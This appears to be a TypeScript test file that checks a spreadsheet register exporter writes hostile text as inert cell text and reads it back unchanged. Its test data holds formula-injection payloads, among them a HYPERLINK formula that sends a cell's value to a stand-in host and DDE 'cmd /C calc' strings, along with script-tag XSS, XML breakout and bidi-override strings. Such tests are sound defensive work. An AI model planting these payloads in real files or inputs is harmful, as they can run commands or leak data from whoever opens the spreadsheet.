import JSZip from "jszip";
import { NewFileWorkbook } from "../../src/file/newFileWorkbook";
import { openWorkbookBytes } from "../../src/file/openFileWorkbook";
import type { CellValue, Snapshot } from "../../src/workbook/workbook";
import { generatedRegister, type GeneratedWorkbook } from "../support/generatedRegister";
import { goWholeWay } from "../support/wholeWay";

/** Texts that are something else to a spreadsheet, a browser, an XML reader or an eye. */
const HOSTILE: readonly (readonly [name: string, text: string])[] = [
  ["a formula", '=HYPERLINK("https://example.invalid/?"&A1,"Class B")'],
  ["a formula after a sign", "+cmd|' /C calc'!A0"],
  ["a formula after an at", "@SUM(1+1)*cmd|' /C calc'!A0"],
  ["a formula after a tab", "\t=1+1"],
  ["HTML", '<img src=x onerror="alert(1)"></script><script>alert(1)</script>'],
  ["XML", "]]></t></is></c><c><f>1+1</f></c>"],
  ["an XML entity", "&xxe;&#0;&amp;"],
  ["what Excel takes for an escape", "_x000D__x0000_"],
  ["control characters", "a\u0000b\u0001c\u0008d\u001fe\u007ff"],
  ["halves of a surrogate pair", "a\ud83dzb\ude00c"],
  ["text that turns round", "\u202egnidart fo noissimrep\u202c\u2066x\u2069"],
  ["header codes", '&P of &N &"Arial,Bold"&24'],
];

/** A register whose every free text is hostile: issuer, signatory, class description, event and details. */
function registerSaying(text: string): GeneratedWorkbook {
  const whole = generatedRegister({ rows: 24, seed: 7 });
  const snapshots = whole.snapshots.map((snapshot) => {
    switch (snapshot.region.sheet) {
      case "Issuer":
        return withCells(snapshot, (row, column, value) => (column === 1 && (row === 0 || row >= 3) ? text : value));
      case "Movements":
        // The rows still to be disclosed: what the return prints.
        return withCells(snapshot, (row, column, value) => (row > 20 && (column === 2 || column === 3) ? text : value));
      default:
        return snapshot;
    }
  });
  return { ...whole, snapshots };
}

function withCells(snapshot: Snapshot, make: (row: number, column: number, value: CellValue) => CellValue): Snapshot {
  return {
    ...snapshot,
    values: snapshot.values.map((cells, row) => cells.map((value, column) => make(row, column, value))),
  };
}

/** What a text is once the spaces around it are gone, as a cell is read. */
const asRead = (text: string): string => text.trim();

describe.each(HOSTILE)("%s in a register", (_, text) => {
  const { findings, json, plans } = goWholeWay(registerSaying(text));

  it("goes through findings and JSON as it is", () => {
    expect(findings.filter(({ outcome }) => outcome === "could not run")).toEqual([]);
    expect(
      findings.some(
        ({ facts, message }) =>
          message.en.includes(asRead(text)) ||
          Object.values(facts).some((fact) => typeof fact === "string" && fact.includes(asRead(text))),
      ),
    ).toBe(true);
    // A half of a surrogate pair comes through JSON as its escape, everything else as itself.
    expect((JSON.parse(json) as { signOff: { name: string } }[]).map(({ signOff }) => signOff.name)).toEqual([
      asRead(text),
      asRead(text),
    ]);
  });

  it("is written on the sheet as text, and read back as it was", async () => {
    expect(plans).toHaveLength(2);
    for (const plan of plans) {
      const workbook = new NewFileWorkbook();
      await workbook.write(plan);
      const bytes = await workbook.toBytes();
      const parts = await JSZip.loadAsync(bytes);
      const sheet = (await parts.file("xl/worksheets/sheet1.xml")?.async("string")) ?? "";
      expect(sheet).toContain("<sheetData>");
      expect(sheet).not.toMatch(/<f[\s>/]|<hyperlink/);
      const opened = await openWorkbookBytes(bytes, "return.xlsx");
      const { used } = (await opened.survey()).sheets[0] ?? {};
      const [read] = await opened.read(used ? [used] : []);
      expect(read?.values.flat()).toContain(asRead(text));
    }
  });
});

describe("a text longer than a cell can hold", () => {
  it("is never cut in silence", async () => {
    const { plans, json } = goWholeWay(registerSaying("x".repeat(32_768)));
    expect(json).toContain("x".repeat(32_768));
    const [plan] = plans;
    if (plan === undefined) throw new Error("no plan");
    await expect(new NewFileWorkbook().write(plan)).rejects.toMatchObject({ kind: "too large" });
  });

  it("is written whole where it just fits", async () => {
    const text = "y".repeat(32_767);
    const { plans } = goWholeWay(registerSaying(text));
    const [plan] = plans;
    if (plan === undefined) throw new Error("no plan");
    const workbook = new NewFileWorkbook();
    await workbook.write(plan);
    const opened = await openWorkbookBytes(await workbook.toBytes(), "return.xlsx");
    const { used } = (await opened.survey()).sheets[0] ?? {};
    const [read] = await opened.read(used ? [used] : []);
    expect(read?.values.flat().some((value) => typeof value === "string" && value.includes(text))).toBe(true);
  });
});
